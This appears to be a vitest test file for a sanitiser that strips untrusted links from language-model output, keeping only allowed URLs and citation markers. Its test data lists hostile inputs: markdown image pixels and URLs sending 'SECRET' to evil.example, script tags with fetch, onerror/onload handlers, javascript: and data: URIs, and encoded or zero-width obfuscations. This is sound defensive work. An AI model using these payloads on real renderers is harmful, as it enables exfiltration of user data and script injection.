import { describe, expect, test } from "vitest";
import { existingCitations } from "../../../src/pipelines/research/citations.ts";
import { withOwnLinksOnly } from "../../../src/pipelines/research/own-links.ts";

const OWN = "https://river.example/otter?page=2";
const clean = withOwnLinksOnly([OWN, "https://pond.example/"], (text) => existingCitations(text, 2));

/** What an eye, a browser or a renderer of Markdown would go to, load or run. */
const WAY_OUT = /evil|SECRET|<|javascript:|data:|vbscript:|\]\(/i;

describe("what a language model wrote", () => {
  test.each([
    "[here](//evil.example/x)",
    "[here](https://evil.example/?q=SECRET)",
    "[here](HTTPS://EVIL.example/)",
    "HTTPS://evil.example/x",
    "see http://evil.example.",
    "<https://evil.example/>",
    "![pixel](https://evil.example/p.png?d=SECRET)",
    "![pixel][evil]",
    "[evil]: https://evil.example/",
    "<img src=https://evil.example/p>",
    "<img src='//evil.example/p' onerror=alert(1)",
    '<a href="https://evil.example">x</a>',
    "<script>fetch('//evil.example')</script>",
    "<!-- evil -->",
    "<svg/onload=evil()>",
    "&#104;ttps://evil.example/",
    "&#x68;ttps&colon;&sol;&sol;evil.example/",
    "&lt;img src=//evil.example&gt;",
    "&amp;#104;ttps://evil.example",
    "[x](javascript:evil())",
    "[x](JaVaScRiPt&colon;evil())",
    "javascript:evil()",
    "[x](data:text/html;base64,evil)",
    "data:text/html,evil",
    "[x](/\\\\evil.example)",
    "/\\evil.example/x",
    "[x](\\/\\/evil.example)",
    `[x](${OWN}&utm_source=SECRET)`,
    `${OWN}&utm_source=SECRET`,
    "https://river.example/otter?page=2#SECRET",
    "https://user:SECRET@river.example/otter?page=2",
    "www.evil.example/x",
    "evil.example/?d=SECRET",
    "ht[9]tps://evil.example/",
    "ht<b>tps://evil.example/",
    "<<b>img src=//evil.example>",
    "h\u200bttps://evil.example/",
    "[x](https://evil.example/a(b)c)",
    '[x](https://evil.example "SECRET")',
    "[x](<https://evil.example/>)",
    "[![p](https://evil.example/p)](https://evil.example/)",
    "mailto:evil@evil.example",
    "ftp://evil.example/x",
  ])("%s has no way out", (given) => {
    const text = clean(`Before [1] ${given} after [2].`);
    // A name alone that nothing makes a link of may stay as a word.
    expect(text.replace(/<b>|\bevil\b(?!\.)/g, "")).not.toMatch(WAY_OUT);
    expect(text).toMatch(/^Before \[1\]/);
    expect(clean(text)).toBe(text);
  });

  test.each([
    [`See [the otter](${OWN}).`, `See [the otter](${OWN}).`],
    [`See ${OWN}.`, `See ${OWN}.`],
    ["See <https://pond.example/>.", "See https://pond.example/."],
    ["A [1][2], B [ 1 ], C [9].", "A [1][2], B [1], C."],
    ["A [1](https://evil.example/).", "A [1]."],
    ["1 < 2 and 3 > 2, AT&T, 50 %; data: see either/or.", "1 < 2 and 3 > 2, AT&T, 50 %; data: see either/or."],
    ["- one\n- two\n\n**bold** `code`", "- one\n- two\n\n**bold** `code`"],
    ["川獺は速い[1]。👩‍🚀", "川獺は速い[1]。👩‍🚀"],
  ])("%s keeps what is its own", (given, kept) => expect(clean(given)).toBe(kept));

  test("takes a time that is linear in the text", () => {
    for (const part of ["[x](", "![", "<a ", "&#104;", "http://", "//a", "a.", "[1", "&amp;", "data:a"]) {
      const text = part.repeat(20_000 / part.length);
      const begin = performance.now();
      clean(text);
      expect(performance.now() - begin, part).toBeLessThan(2_000);
    }
  });
});
